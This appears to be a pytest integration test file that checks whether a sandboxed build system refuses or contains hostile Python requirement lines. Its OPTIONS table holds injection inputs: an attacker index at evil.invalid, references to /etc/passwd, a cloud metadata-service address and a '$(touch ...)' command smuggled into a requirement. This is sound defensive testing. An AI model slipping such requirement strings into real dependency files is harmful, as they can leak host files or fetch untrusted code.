"""P11: requirements are hostile code too: they run in a container or not at all.

How builds are kept in is proven package by package in tests/integration/environments; this is the
whole product, with packages of the public index and of none.
"""

from __future__ import annotations

from pathlib import Path

import pytest

from seatrial.domain.events import LogEvent

from .conftest import Place

pytestmark = [pytest.mark.engine, pytest.mark.timeout(600)]

ECHO = "def run(query): return query"
OPTIONS = {
    "another index": "--index-url https://evil.invalid/simple\nsix",
    "a folder of the host": "--find-links /etc\nsix",
    "a file of the host": "six @ file:///etc/passwd",
    "a file that is included": "-r /etc/passwd",
    "constraints of the host": "-c /etc/passwd\nsix",
    "an editable path": "-e /",
    "a repository": "six @ git+https://evil.invalid/six",
    "an address": "six @ https://169.254.169.254/six-1.0-py3-none-any.whl",
    "a command": "six; $(touch /tmp/seatrial-owned)",
}


@pytest.mark.spec("FR-013", "edge-4")
@pytest.mark.parametrize("case", OPTIONS)
def test_what_leads_elsewhere_is_refused_or_fails_as_the_requirements_fault(
    place: Place, case: str
) -> None:
    failed = place.refused_or_failed(ECHO, requirements=OPTIONS[case])
    assert "root:" not in failed
    assert not Path("/tmp/seatrial-owned").exists()


@pytest.mark.spec("FR-003", "edge-4")
def test_an_ordinary_package_is_installed_without_a_trace_on_the_host(place: Place) -> None:
    agent = "import six\ndef run(query): return six.__version__"
    end = place.ask(agent, "q", requirements="six==1.16.0")
    assert end.response == "1.16.0", end.said
    assert any(isinstance(e.data, LogEvent) and e.data.stream == "build" for e in end.events)
    assert place.host.left_of(end.test.id) == []
    assert not place.host.containers("build")
